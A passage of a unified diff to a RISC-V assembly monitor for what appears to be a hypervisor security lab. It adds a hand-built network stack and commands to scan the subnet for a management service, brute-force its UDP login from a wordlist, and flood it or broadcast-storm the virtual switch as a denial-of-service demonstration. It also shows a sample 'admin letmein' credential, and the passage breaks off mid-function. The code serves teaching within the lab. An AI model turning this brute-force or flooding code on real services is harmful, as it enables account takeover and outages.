@@ -30,6 +30,21 @@
 #   rlog TEXT                     put a LOG request in the ring and ring the doorbell
 #   race LEN                      a 16-byte LOG request, then len = LEN right after the
 #                                 doorbell: the double fetch (XSA-155) if the backend reads len twice
+#   ip                            own IPv4 address (NET info) and MAC (02:00:00:00:00:<domid>)
+#   arp                           the ARP cache: IP -> MAC
+#   scan                          ARP .1 to .30 of our /24: how a tenant finds the management IP
+#   ping IP [COUNT]               ICMP echo (ARP first): seq and time in instructions per reply
+#   send IP PORT TEXT             one UDP datagram from port 40000, then the answer if one comes:
+#                                 send 10.0.0.1 6230 LOGIN admin letmein  ->  reply: OK <token>
+#   listen PORT [COUNT]           print UDP datagrams to PORT until COUNT came or a key is typed
+#   brute USER [IP]               guess USER's management login (UDP 6230) from a wordlist
+#   flood IP PORT COUNT           COUNT junk UDP requests to IP:PORT (the DoS attack); storm: the
+#   storm IP PORT COUNT           same to the Ethernet broadcast address (every port gets a copy)
+#   sendn COUNT IP PORT TEXT      send TEXT COUNT times, count the OK answers (the admin's side)
+#
+# The network commands build and parse real Ethernet/ARP/IPv4/UDP/ICMP frames
+# themselves: see the section "network library" near the end. While it waits
+# at the prompt the monitor answers ARP and ping, like any host.
 #
 # The hypercall ABI (RISC-V SBI calling convention): a7 = extension ID (EID),
 # a6 = function ID (FID), a0..a5 = arguments, then `ecall`; the hypervisor
@@ -90,6 +105,91 @@
         .equ SBI_ERROR_COUNT, 14        # SBI_SUCCESS and the 13 errors, 0 to -13
         .equ SBI_ERR_INVALID_PARAM, -3
         .equ MAX_DOMID,   256           # vms stops here, whatever count() said
+        .equ EID_NET,     0x09000004    # hvlab virtual NIC
+        .equ NET_INFO,    0
+        .equ NET_SEND,    1
+        .equ NET_RECV,    2
+
+        # ---- frames (offsets from the start of the Ethernet frame; see "network library")
+        .equ FRAME_MAX,   1514          # Ethernet II without the FCS
+        .equ ETH_DST,     0
+        .equ ETH_SRC,     6
+        .equ ETH_TYPE,    12
+        .equ ETH_TYPE_IP, 0x0800
+        .equ ETH_TYPE_ARP, 0x0806
+        .equ ARP_HTYPE,   14
+        .equ ARP_PTYPE,   16
+        .equ ARP_HLEN,    18
+        .equ ARP_PLEN,    19
+        .equ ARP_OP,      20
+        .equ ARP_SHA,     22
+        .equ ARP_SPA,     28
+        .equ ARP_THA,     32
+        .equ ARP_TPA,     38
+        .equ ARP_END,     42
+        .equ ARP_REQUEST, 1
+        .equ ARP_REPLY,   2
+        .equ IP_VHL,      14
+        .equ IP_TOS,      15
+        .equ IP_LEN,      16
+        .equ IP_IDENT,    18
+        .equ IP_FRAG,     20
+        .equ IP_TTL,      22
+        .equ IP_PROTO,    23
+        .equ IP_CSUM,     24
+        .equ IP_SRC,      26
+        .equ IP_DST,      30
+        .equ IP_HEADER_LEN, 20
+        .equ IP_PROTO_ICMP, 1
+        .equ IP_PROTO_UDP, 17
+        .equ UDP_SPORT,   34
+        .equ UDP_DPORT,   36
+        .equ UDP_LEN,     38
+        .equ UDP_CSUM,    40
+        .equ UDP_DATA,    42
+        .equ UDP_HEADER_LEN, 8
+        .equ ICMP_TYPE,   34
+        .equ ICMP_CODE,   35
+        .equ ICMP_CSUM,   36
+        .equ ICMP_IDENT,  38
+        .equ ICMP_SEQ,    40
+        .equ ICMP_DATA,   42
+        .equ ICMP_HEADER_LEN, 8
+        .equ ICMP_ECHO_REPLY, 0
+        .equ ICMP_ECHO_REQUEST, 8
+
+        # ---- network tunables
+        .equ ARP_SLOTS,   16            # ARP cache entries
+        .equ ARP_ENTRY,   12            # one entry: IP (u32), MAC (6 bytes), 2 spare
+        .equ ARP_IP,      0
+        .equ ARP_MAC,     4
+        .equ ARP_TRIES,   3             # ARP requests before giving up on an address
+        .equ WAIT_SPIN,   250           # one wait round: this many 2-instruction spins,
+        .equ ROUND_INSNS, 500           # so about this many instructions
+        .equ ARP_ROUNDS,  40            # rounds to wait for an ARP reply (~20,000 instructions)
+        .equ REPLY_ROUNDS, 200          # rounds to wait for a ping or UDP answer (~100,000)
+        .equ FRAMES_PER_ROUND, 8      # other frames a wait takes as one round
+        .equ SCAN_ROUNDS, 60            # scan: rounds to collect the ARP replies
+        .equ SCAN_FIRST,  1             # scan asks for .1 to .30 of our /24
+        .equ SCAN_LAST,   30
+        .equ PING_IDENT,  0x4856        # "HV": our echo requests' identifier
+        .equ PING_DEFAULT, 3            # pings when COUNT is left out
+        .equ PING_MAX,    100
+        .equ PING_DATA_LEN, 32
+        .equ CLIENT_PORT, 40000         # send's and brute's UDP source port
+        .equ FLOOD_PORT,  40666         # flood's
+        .equ SENDN_PORT,  41000         # sendn's: 41000 + round % 1000
+        .equ SENDN_ROUNDS, 20           # sendn: rounds to wait for each answer (~10,000)
+        .equ SENDN_GAP,   4             # sendn: rounds between requests (~2,000)
+        .equ MGMT_PORT,   6230          # the hypervisor's management service (lab/net/mgmt.py)
+        .equ MAX_TEXT,    256           # bytes of a UDP payload we send or print
+        .equ LISTEN_DEFAULT, 10         # listen: datagrams when COUNT is left out
+        .equ LISTEN_WAKES, 1000         # listen: wfi wake-ups before it gives up
+        .equ FLOOD_DATA_LEN, 16
+        .equ FLOOD_GAP,   25            # flood: spins between frames (~60 instructions a frame:
+                                        # ~16 a quantum, 4x what the service handles; 0 = flat out,
+                                        # the same outcome, only slower to simulate)
+        .equ FLOOD_BACKOFF, 250         # flood: spins after the NIC dropped a frame
 
         # ---- sizes
         .equ LINE_MAX,    120           # characters in a command line
@@ -117,6 +217,7 @@ _start:
         ecall
         la   t0, my_domid
         sw   a1, 0(t0)
+        call net_init                   # our IPv4 address, if we have a NIC
         la   a0, msg_banner
         call puts
 
@@ -931,6 +1032,765 @@ cmd_race:
         addi sp, sp, 16
         ret
 
+# ------------------------------------------------------------------ network commands
+# They use the network library below. Every wait for an answer is bounded in
+# rounds (see wait_frame), so a lost packet costs a timeout, never a hang.
+
+# ip: this VM's addresses (NET info gave the IPv4 address; the MAC follows the domid).
+cmd_ip:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        call need_net
+        la   a0, msg_ip
+        call puts
+        la   t0, my_ip
+        lw   a0, 0(t0)
+        call put_ip
+        la   a0, msg_mac
+        call puts
+        la   a0, my_mac
+        call put_mac
+        call newline
+        lw   ra, 12(sp)
+        addi sp, sp, 16
+        ret
+
+# arp: the ARP cache, one `IP is at MAC` line per entry.
+cmd_arp:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        call need_net
+        call put_arp_cache
+        lw   ra, 12(sp)
+        addi sp, sp, 16
+        ret
+
+# scan: ARP every address .1 to .30 of our /24, wait a moment and list who
+# answered: how a tenant finds the hypervisor's management interface.
+cmd_scan:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        sw   s1, 4(sp)
+        call need_net
+        la   t0, my_ip
+        lw   s1, 0(t0)
+        srli s1, s1, 8
+        slli s1, s1, 8                  # s1 = our /24 network
+        li   s0, SCAN_FIRST             # s0 = host number
+1:      li   t0, SCAN_LAST
+        bgt  s0, t0, 2f
+        or   a0, s1, s0
+        call arp_request
+        addi s0, s0, 1
+        j    1b
+2:      la   a0, match_nothing          # net_service learns every reply meanwhile
+        li   a1, SCAN_ROUNDS
+        call wait_frame
+        la   a0, msg_scanned
+        call puts
+        call put_arp_cache
+        lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        lw   s1, 4(sp)
+        addi sp, sp, 16
+        ret
+
+# ping IP [COUNT]: ICMP echo requests (ARP first if needed); one line per
+# reply with its sequence number and the time this VM waited for it, in
+# instructions (counted in wait rounds of ROUND_INSNS: the lab has no clock
+# a guest can read).
+cmd_ping:
+        addi sp, sp, -32
+        sw   ra, 28(sp)
+        sw   s0, 24(sp)
+        sw   s1, 20(sp)
+        sw   s2, 16(sp)
+        sw   s3, 12(sp)
+        sw   s4, 8(sp)
+        mv   s4, a0                     # argc
+        call need_net
+        li   a0, 1
+        call arg_ip
+        mv   s0, a0                     # s0 = IP
+        li   s2, PING_DEFAULT           # s2 = COUNT
+        li   t0, 3
+        blt  s4, t0, 1f
+        li   a0, 2
+        call arg_num
+        mv   s2, a0
+        li   t0, PING_MAX
+        bleu s2, t0, 1f
+        mv   s2, t0
+1:      mv   a0, s0
+        call resolve_or_abort
+        mv   s1, a0                     # s1 = its MAC
+        li   s3, 0                      # s3 = replies
+        li   s4, 1                      # s4 = seq
+2:      bgt  s4, s2, 5f
+        mv   a0, s1                     # icmp_echo(dst mac, dst ip, type, ident, seq, data, len)
+        mv   a1, s0
+        li   a2, ICMP_ECHO_REQUEST
+        li   a3, PING_IDENT
+        mv   a4, s4
+        la   a5, ping_data
+        li   a6, PING_DATA_LEN
+        call icmp_echo
+        call net_send
+        la   t0, want_ip
+        sw   s0, 0(t0)
+        la   t0, want_seq
+        sw   s4, 0(t0)
+        la   a0, match_echo_reply
+        li   a1, REPLY_ROUNDS
+        call wait_frame
+        beqz a0, 3f
+        addi s3, s3, 1
+        la   a0, msg_reply_from         # "reply from IP: seq=N time=T instructions"
+        call puts
+        mv   a0, s0
+        call put_ip
+        la   a0, msg_seq
+        call puts
+        mv   a0, s4
+        call put_dec
+        la   a0, msg_time
+        call puts
+        call put_wait_time
+        la   a0, msg_instructions
+        call puts
+        j    4f
+3:      la   a0, msg_no_reply_seq       # "no reply: seq=N"
+        call puts
+        mv   a0, s4
+        call put_dec
+        call newline
+4:      addi s4, s4, 1
+        j    2b
+5:      mv   a0, s2                     # "N sent, M received"
+        call put_dec
+        la   a0, msg_sent_received
+        call puts
+        mv   a0, s3
+        call put_dec
+        la   a0, msg_received
+        call puts
+        lw   ra, 28(sp)
+        lw   s0, 24(sp)
+        lw   s1, 20(sp)
+        lw   s2, 16(sp)
+        lw   s3, 12(sp)
+        lw   s4, 8(sp)
+        addi sp, sp, 32
+        ret
+
+# send IP PORT TEXT: TEXT as one UDP datagram from our client port
+# CLIENT_PORT, then the answer if one comes back within REPLY_ROUNDS rounds.
+# With the management service: send 10.0.0.1 6230 LOGIN admin letmein
+cmd_send:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        call need_net
+        li   a0, 3                      # TEXT: the line after three words
+        call rest_of_line
+        mv   a1, a0
+        li   a0, CLIENT_PORT
+        call udp_request                # a0 = 1 answered, 0 not
+        beqz a0, 1f
+        la   a0, msg_reply_colon
+        call puts
+        call put_udp_payload
+        call newline
+        j    2f
+1:      la   a0, msg_no_answer
+        call puts
+2:      lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        addi sp, sp, 16
+        ret
+
+# listen PORT [COUNT]: print the UDP datagrams that arrive for PORT until
+# COUNT (default 10) have come, a key is typed or LISTEN_WAKES wake-ups have
+# passed. Between frames the VM waits in wfi: listening costs no CPU time.
+cmd_listen:
+        addi sp, sp, -32
+        sw   ra, 28(sp)
+        sw   s0, 24(sp)
+        sw   s1, 20(sp)
+        sw   s2, 16(sp)
+        sw   s3, 12(sp)
+        mv   s3, a0                     # argc
+        call need_net
+        li   a0, 1
+        call arg_num
+        mv   s0, a0                     # s0 = PORT
+        li   s1, LISTEN_DEFAULT         # s1 = COUNT
+        li   t0, 3
+        blt  s3, t0, 1f
+        li   a0, 2
+        call arg_num
+        mv   s1, a0
+1:      la   t0, want_ip                # any sender, any source port
+        sw   zero, 0(t0)
+        la   t0, want_port
+        sw   zero, 0(t0)
+        la   t0, want_my_port
+        sw   s0, 0(t0)
+        la   a0, msg_listening
+        call puts
+        mv   a0, s0
+        call put_dec
+        call newline
+        li   s2, LISTEN_WAKES           # s2 = wake-ups left
+2:      beqz s1, 6f
+3:      call net_recv
+        beqz a0, 4f
+        mv   s3, a0
+        call net_service
+        bnez a0, 3b
+        mv   a0, s3
+        call match_udp
+        beqz a0, 3b
+        call put_udp_from               # "from IP:PORT: TEXT"
+        addi s1, s1, -1
+        j    2b
+4:      li   t0, UART_BASE              # a key ends it (and stays for the prompt)
+        lbu  t1, UART_LSR(t0)
+        andi t1, t1, LSR_DR
+        bnez t1, 6f
+        beqz s2, 6f
+        addi s2, s2, -1
+        wfi
+        j    3b
+6:      lw   ra, 28(sp)
+        lw   s0, 24(sp)
+        lw   s1, 20(sp)
+        lw   s2, 16(sp)
+        lw   s3, 12(sp)
+        addi sp, sp, 32
+        ret
+
+# brute USER [IP]: online password guessing. LOGIN USER with every word of
+# `wordlist` against the management service at IP (default .1 of our /24),
+# port MGMT_PORT, until one answers OK: prints the password and the token.
+# A lockout (mgmt.lockout_after) or an unreachable service stops it.
+cmd_brute:
+        addi sp, sp, -32
+        sw   ra, 28(sp)
+        sw   s0, 24(sp)
+        sw   s1, 20(sp)
+        sw   s2, 16(sp)
+        sw   s3, 12(sp)
+        mv   s3, a0                     # argc
+        call need_net
+        la   t0, my_ip                  # IP: .1 of our /24 unless given
+        lw   t1, 0(t0)
+        srli t1, t1, 8
+        slli t1, t1, 8
+        addi s0, t1, 1
+        li   t0, 3
+        blt  s3, t0, 1f
+        li   a0, 2
+        call arg_ip
+        mv   s0, a0                     # s0 = IP
+1:      la   t0, target_ip
+        sw   s0, 0(t0)
+        li   t0, MGMT_PORT
+        la   t1, target_port
+        sw   t0, 0(t1)
+        la   s1, wordlist               # s1 = the next word's pointer in the table
+        li   s2, 0                      # s2 = tries
+2:      lw   s3, 0(s1)                  # s3 = the password to try
+        beqz s3, 7f
+        addi s1, s1, 4
+        addi s2, s2, 1
+        la   a0, text_buf               # "LOGIN " USER " " word
+        la   a1, s_login
+        call str_copy
+        la   t0, argv
+        lw   a1, 4(t0)
+        call str_copy
+        li   t0, ' '
+        sb   t0, 0(a0)
+        addi a0, a0, 1
+        mv   a1, s3
+        call str_copy
+        la   a0, msg_trying             # "trying WORD: REPLY"
+        call puts
+        mv   a0, s3
+        call puts
+        la   a0, msg_colon
+        call puts
+        li   a0, CLIENT_PORT
+        la   a1, text_buf
+        call udp_to_target
+        beqz a0, 8f
+        call put_udp_payload
+        call newline
+        la   a0, rx_buf + UDP_DATA      # "OK <token>": found it
+        la   a1, s_ok_space
+        call str_prefix
+        bnez a0, 6f
+        la   a0, rx_buf + UDP_DATA
+        la   a1, s_locked
+        call str_prefix
+        beqz a0, 2b
+        la   a0, msg_locked             # "locked out after N tries"
+        call puts
+        mv   a0, s2
+        call put_dec
+        la   a0, msg_tries
+        call puts
+        j    9f
+6:      la   a0, msg_password           # "password: WORD\ntoken: T"
+        call puts
+        mv   a0, s3
+        call puts
+        la   a0, msg_token
+        call puts
+        la   a0, rx_buf + UDP_DATA + 3
+        call puts
+        call newline
+        j    9f
+7:      la   a0, msg_no_password        # "no password of the wordlist worked (N tried)"
+        call puts
+        mv   a0, s2
+        call put_dec
+        la   a0, msg_tried
+        call puts
+        j    9f
+8:      la   a0, msg_no_answer
+        call puts
+9:      lw   ra, 28(sp)
+        lw   s0, 24(sp)
+        lw   s1, 20(sp)
+        lw   s2, 16(sp)
+        lw   s3, 12(sp)
+        addi sp, sp, 32
+        ret
+
+# flood IP PORT COUNT: send COUNT junk UDP requests to IP:PORT, one frame
+# built once and sent again and again, FLOOD_GAP spins apart, and count how
+# many the NIC dropped (vnic.rate_limit). After a drop it waits
+# FLOOD_BACKOFF spins, as a sender does when its NIC's transmit ring is full.
+# The denial-of-service attack.
+# storm IP PORT COUNT: the same, sent to the Ethernet broadcast address: the
+# switch copies every frame to every port, so it also fills the other VMs'
+# receive queues, the admin's among them.
+cmd_flood:
+        li   a2, 0
+        j    flood_common
+cmd_storm:
+        li   a2, 1
+flood_common:
+        addi sp, sp, -32
+        sw   ra, 28(sp)
+        sw   s0, 24(sp)
+        sw   s1, 20(sp)
+        sw   s2, 16(sp)
+        sw   s3, 12(sp)
+        sw   s4, 8(sp)
+        mv   s4, a2                     # s4 = broadcast?
+        call need_net
+        li   a0, 1
+        call arg_ip
+        mv   s0, a0                     # s0 = IP
+        li   a0, 2
+        call arg_num
+        mv   s1, a0                     # s1 = PORT
+        li   a0, 3
+        call arg_num
+        mv   s2, a0                     # s2 = COUNT
+        la   a0, broadcast_mac
+        bnez s4, 1f
+        mv   a0, s0
+        call resolve_or_abort
+1:      mv   a1, s0                     # udp_frame(dst mac, dst ip, sport, dport, data, len)
+        li   a2, FLOOD_PORT
+        mv   a3, s1
+        la   a4, flood_data
+        li   a5, FLOOD_DATA_LEN
+        call udp_frame
+        mv   s3, a0                     # s3 = frame length
+        li   s0, 0                      # s0 = sent
+        li   s1, 0                      # s1 = dropped by the NIC
+2:      beqz s2, 4f
+        addi s2, s2, -1
+        la   a0, tx_buf                 # NET send(gpa, len): inlined, this loop is the attack
+        mv   a1, s3
+        li   a7, EID_NET
+        li   a6, NET_SEND
+        ecall
+        bnez a1, 3f
+        addi s1, s1, 1
+        li   t0, FLOOD_BACKOFF          # dropped: the NIC is full, give it a moment
+31:     addi t0, t0, -1
+        bnez t0, 31b
+        j    2b
+3:      addi s0, s0, 1
+        li   t0, FLOOD_GAP
+32:     addi t0, t0, -1
+        bnez t0, 32b
+        j    2b
+4:      la   a0, msg_flood              # "flood: N sent, D dropped by the NIC"
+        call puts
+        mv   a0, s0
+        call put_dec
+        la   a0, msg_sent_comma
+        call puts
+        mv   a0, s1
+        call put_dec
+        la   a0, msg_dropped
+        call puts
+        lw   ra, 28(sp)
+        lw   s0, 24(sp)
+        lw   s1, 20(sp)
+        lw   s2, 16(sp)
+        lw   s3, 12(sp)
+        lw   s4, 8(sp)
+        addi sp, sp, 32
+        ret
+
+# sendn COUNT IP PORT TEXT: the admin's side of the flood lesson: send TEXT
+# COUNT times, one request at a time, each from its own source port (so a
+# late answer to an earlier round is never counted), waiting up to
+# SENDN_ROUNDS rounds for its answer and SENDN_GAP rounds between requests
+# (an admin is slower than a flooder). Prints how many answers began with OK.
+cmd_sendn:
+        addi sp, sp, -32
+        sw   ra, 28(sp)
+        sw   s0, 24(sp)
+        sw   s1, 20(sp)
+        sw   s2, 16(sp)
+        sw   s3, 12(sp)
+        call need_net
+        li   a0, 1
+        call arg_num
+        mv   s0, a0                     # s0 = COUNT
+        la   t0, argv                   # udp_request reads IP and PORT from argv[1..2]:
+        lw   t1, 8(t0)
+        sw   t1, 4(t0)
+        lw   t1, 12(t0)
+        sw   t1, 8(t0)                  # (shifted by one word)
+        li   a0, 4
+        call rest_of_line
+        mv   s3, a0                     # s3 = TEXT
+        li   s1, 0                      # s1 = round
+        li   s2, 0                      # s2 = OK answers
+1:      bgeu s1, s0, 4f
+        li   t0, 1000                   # source port: 41000 + round % 1000
+        remu a0, s1, t0
+        li   t0, SENDN_PORT
+        add  a0, a0, t0
+        mv   a1, s3
+        li   a2, SENDN_ROUNDS
+        call udp_request_rounds
+        beqz a0, 2f
+        la   a0, rx_buf + UDP_DATA
+        la   a1, s_ok
+        call str_prefix
+        add  s2, s2, a0
+2:      li   t0, SENDN_GAP * WAIT_SPIN  # pause between requests
+3:      addi t0, t0, -1
+        bnez t0, 3b
+        addi s1, s1, 1
+        j    1b
+4:      la   a0, msg_sendn              # "sendn: K of N answered OK"
+        call puts
+        mv   a0, s2
+        call put_dec
+        la   a0, msg_of
+        call puts
+        mv   a0, s0
+        call put_dec
+        la   a0, msg_answered_ok
+        call puts
+        lw   ra, 28(sp)
+        lw   s0, 24(sp)
+        lw   s1, 20(sp)
+        lw   s2, 16(sp)
+        lw   s3, 12(sp)
+        addi sp, sp, 32
+        ret
+
+# ------------------------------------------------------------------ network command helpers
+
+# need_net: abort the command with an error when this VM has no NIC.
+need_net:
+        la   t0, net_up
+        lw   t0, 0(t0)
+        beqz t0, 1f
+        ret
+1:      la   a0, msg_no_nic
+        call puts
+        j    abort_command
+
+# arg_ip: argv[a0] as a dotted IPv4 address; a bad one aborts the command.
+# in: a0 = index into argv   out: a0 = address (10.0.0.1 = 0x0a000001)
+arg_ip:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        la   t0, argv
+        slli a0, a0, 2
+        add  t0, t0, a0
+        lw   s0, 0(t0)
+        mv   a0, s0
+        call parse_ip
+        beqz a1, 1f
+        lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        addi sp, sp, 16
+        ret
+1:      la   a0, msg_bad_ip             # error: bad IPv4 address 'x' (like 10.0.0.1)
+        call puts
+        mv   a0, s0
+        call puts
+        la   a0, msg_bad_ip_end
+        call puts
+        j    abort_command
+
+# rest_of_line: the text of the line after its first a0 words.
+# in: a0 = words to skip   out: a0 = string
+rest_of_line:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        mv   s0, a0
+        la   a0, line
+1:      call skip_spaces
+        beqz s0, 2f
+        call skip_word
+        addi s0, s0, -1
+        j    1b
+2:      lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        addi sp, sp, 16
+        ret
+
+# resolve_or_abort: the MAC of an IP; no ARP answer aborts the command.
+# in: a0 = IP   out: a0 = pointer to the 6-byte MAC (in the ARP cache)
+resolve_or_abort:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        mv   s0, a0
+        call resolve
+        beqz a0, 1f
+        lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        addi sp, sp, 16
+        ret
+1:      la   a0, msg_no_arp             # "no ARP reply from IP"
+        call puts
+        mv   a0, s0
+        call put_ip
+        call newline
+        j    abort_command
+
+# udp_request: send TEXT to IP:PORT (argv[1], argv[2]) from source port a0
+# and wait up to REPLY_ROUNDS rounds for the answer.
+# in: a0 = source port, a1 = TEXT   out: a0 = 1 answered (in rx_buf), 0 not
+udp_request:
+        li   a2, REPLY_ROUNDS
+# the same with a2 = rounds to wait
+udp_request_rounds:
+        addi sp, sp, -32
+        sw   ra, 28(sp)
+        sw   s0, 24(sp)
+        sw   s1, 20(sp)
+        sw   s2, 16(sp)
+        mv   s0, a0
+        mv   s1, a1
+        mv   s2, a2
+        li   a0, 1
+        call arg_ip
+        la   t0, target_ip
+        sw   a0, 0(t0)
+        li   a0, 2
+        call arg_num
+        la   t0, target_port
+        sw   a0, 0(t0)
+        mv   a0, s0
+        mv   a1, s1
+        mv   a2, s2
+        call udp_to_target_rounds
+        lw   ra, 28(sp)
+        lw   s0, 24(sp)
+        lw   s1, 20(sp)
+        lw   s2, 16(sp)
+        addi sp, sp, 32
+        ret
+
+# udp_to_target: send the string a1 to target_ip:target_port from source
+# port a0 and wait up to REPLY_ROUNDS (or a2) rounds for the answer.
+# A frame the NIC drops is reported at once.
+# out: a0 = 1 answered (the frame is in rx_buf), 0 not
+udp_to_target:
+        li   a2, REPLY_ROUNDS
+udp_to_target_rounds:
+        addi sp, sp, -32
+        sw   ra, 28(sp)
+        sw   s0, 24(sp)
+        sw   s1, 20(sp)
+        sw   s2, 16(sp)
+        sw   s3, 12(sp)
+        mv   s0, a0                     # s0 = source port
+        mv   s1, a1                     # s1 = text
+        mv   s3, a2                     # s3 = rounds
+        la   t0, target_ip
+        lw   a0, 0(t0)
+        call resolve_or_abort
+        mv   s2, a0                     # s2 = MAC
+        mv   a0, s1                     # a5 = strlen(text), at most MAX_TEXT
+        li   a5, 0
+1:      add  t0, a0, a5
+        lbu  t0, 0(t0)
+        beqz t0, 2f
+        li   t1, MAX_TEXT
+        bgeu a5, t1, 2f
+        addi a5, a5, 1
+        j    1b
+2:      mv   a4, s1
+        mv   a0, s2
+        la   t0, target_ip
+        lw   a1, 0(t0)
+        mv   a2, s0
+        la   t0, target_port
+        lw   a3, 0(t0)
+        call udp_frame
+        call net_send
+        bnez a0, 3f
+        la   a0, msg_nic_dropped        # the rate limiter said no
+        call puts
+        li   a0, 0
+        j    4f
+3:      la   t0, target_ip              # the answer: from IP:PORT to our port
+        lw   t1, 0(t0)
+        la   t0, want_ip
+        sw   t1, 0(t0)
+        la   t0, target_port
+        lw   t1, 0(t0)
+        la   t0, want_port
+        sw   t1, 0(t0)
+        la   t0, want_my_port
+        sw   s0, 0(t0)
+        la   a0, match_udp
+        mv   a1, s3
+        call wait_frame
+        snez a0, a0
+4:      lw   ra, 28(sp)
+        lw   s0, 24(sp)
+        lw   s1, 20(sp)
+        lw   s2, 16(sp)
+        lw   s3, 12(sp)
+        addi sp, sp, 32
+        ret
+
+# put_udp_payload: print the payload of the UDP datagram in rx_buf (at most
+# MAX_TEXT bytes; it is ended with a NUL in place).
+put_udp_payload:
+        la   t0, rx_buf
+        lbu  t1, UDP_LEN(t0)
+        lbu  t2, UDP_LEN + 1(t0)
+        slli t1, t1, 8
+        or   t1, t1, t2
+        addi t1, t1, -UDP_HEADER_LEN   # payload length
+        li   t2, MAX_TEXT
+        bleu t1, t2, 1f
+        mv   t1, t2
+1:      addi t0, t0, UDP_DATA
+        add  t2, t0, t1
+        sb   zero, 0(t2)
+        mv   a0, t0
+        j    puts
+
+# put_udp_from: print `from IP:PORT: TEXT` for the UDP datagram in rx_buf.
+put_udp_from:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        la   a0, msg_from_ip
+        call puts
+        la   a0, rx_buf + IP_SRC
+        call get_be32
+        call put_ip
+        li   a0, ':'
+        call putc
+        la   a0, rx_buf + UDP_SPORT
+        call get_be16
+        call put_dec
+        la   a0, msg_colon
+        call puts
+        call put_udp_payload
+        call newline
+        lw   ra, 12(sp)
+        addi sp, sp, 16
+        ret
+
+# put_wait_time: the last wait_frame's rounds, in instructions.
+put_wait_time:
+        la   t0, wait_used
+        lw   a0, 0(t0)
+        li   t1, ROUND_INSNS
+        mul  a0, a0, t1
+        j    put_dec
+
+# put_arp_cache: one `IP is at MAC` line per entry, or `arp cache empty`.
+put_arp_cache:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        sw   s1, 4(sp)
+        la   t0, arp_count
+        lw   s1, 0(t0)                  # s1 = entries left
+        bnez s1, 1f
+        la   a0, msg_arp_empty
+        call puts
+        j    3f
+1:      la   s0, arp_cache
+2:      beqz s1, 3f
+        lw   a0, ARP_IP(s0)
+        call put_ip
+        la   a0, msg_is_at
+        call puts
+        addi a0, s0, ARP_MAC
+        call put_mac
+        call newline
+        addi s0, s0, ARP_ENTRY
+        addi s1, s1, -1
+        j    2b
+3:      lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        lw   s1, 4(sp)
+        addi sp, sp, 16
+        ret
+
+# str_copy: copy a string with its NUL.   in: a0 = dest, a1 = source
+# out: a0 = where the NUL went in dest (to append the next piece)
+str_copy:
+1:      lbu  t0, 0(a1)
+        sb   t0, 0(a0)
+        beqz t0, 2f
+        addi a0, a0, 1
+        addi a1, a1, 1
+        j    1b
+2:      ret
+
+# str_prefix: does string a0 begin with string a1?   out: a0 = 1 or 0
+str_prefix:
+1:      lbu  t1, 0(a1)
+        beqz t1, 2f
+        lbu  t0, 0(a0)
+        bne  t0, t1, 3f
+        addi a0, a0, 1
+        addi a1, a1, 1
+        j    1b
+2:      li   a0, 1
+        ret
+3:      li   a0, 0
+        ret
+
 # ------------------------------------------------------------------ arguments
 
 # arg_num: argv[a0] as a number; a bad one prints an error and aborts the command.
@@ -1212,15 +2072,28 @@ split_words:
 
 # getc: wait for a byte from the UART. While none is there, `wfi` hands the
 # CPU back to the hypervisor, which runs other VMs and wakes this one when
-# input arrives (a busy loop would burn everyone's time).   out: a0 = byte
+# input arrives (a busy loop would burn everyone's time). A frame wakes it
+# too: meanwhile the VM is still a host on its network, so frames go to
+# net_service (an idle monitor answers ARP and ping).   out: a0 = byte
 getc:
-        li   t0, UART_BASE
-1:      lbu  t1, UART_LSR(t0)
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+1:      li   t0, UART_BASE
+        lbu  t1, UART_LSR(t0)
         andi t1, t1, LSR_DR
-        bnez t1, 2f
-        wfi
+        bnez t1, 3f
+        la   t0, net_up
+        lw   t0, 0(t0)
+        beqz t0, 2f
+        call net_recv
+        beqz a0, 2f
+        call net_service
         j    1b
-2:      lbu  a0, UART_RBR(t0)
+2:      wfi
+        j    1b
+3:      lbu  a0, UART_RBR(t0)
+        lw   ra, 12(sp)
+        addi sp, sp, 16
         ret
 
 # putc: send one byte to the UART.   in: a0 = byte
@@ -1447,6 +2320,869 @@ hexdump:
         addi sp, sp, 32
         ret
 
+# ================================================================== network library
+# Builds and parses real frames in tx_buf / rx_buf, byte by byte: the wire is
+# big-endian (network byte order), this CPU little-endian, so every 16- and
+# 32-bit field goes through put_be16/put_be32 and get_be16/get_be32.
+#
+#   Ethernet II   0 dst MAC, 6 src MAC, 12 type (0x0800 IPv4, 0x0806 ARP)
+#   ARP (at 14)   14 htype 1, 16 ptype 0x0800, 18 hlen 6, 19 plen 4, 20 op,
+#                 22 sender MAC, 28 sender IP, 32 target MAC, 38 target IP
+#   IPv4 (at 14)  14 version/IHL 0x45, 15 TOS, 16 total length, 18 ident,
+#                 20 flags/fragment, 22 TTL, 23 protocol, 24 header checksum,
+#                 26 source, 30 destination (no options: 20 bytes)
+#   UDP (at 34)   34 source port, 36 dest port, 38 length, 40 checksum, 42 data
+#   ICMP (at 34)  34 type, 35 code, 36 checksum, 38 ident, 40 seq, 42 data
+#
+# Checksums are the Internet checksum (RFC 1071): the one's complement of the
+# one's-complement sum of the 16-bit big-endian words. UDP's also covers a
+# pseudo-header (source, destination, zero, protocol 17, UDP length; RFC 768),
+# and is sent as 0xffff when it comes out 0 (0 means "no checksum").
+# Copy this section into another guest to give it the same network stack.
+
+# net_init: ask the NIC for our address (NET info) and derive our MAC from
+# the domid; a VM without a NIC (SBI_ERR_NOT_SUPPORTED) leaves net_up 0.
+net_init:
+        li   a7, EID_NET
+        li   a6, NET_INFO
+        ecall
+        bnez a0, 1f
+        la   t0, my_ip
+        sw   a1, 0(t0)
+        la   t0, my_mac                 # 02:00:00:00:00:<domid>
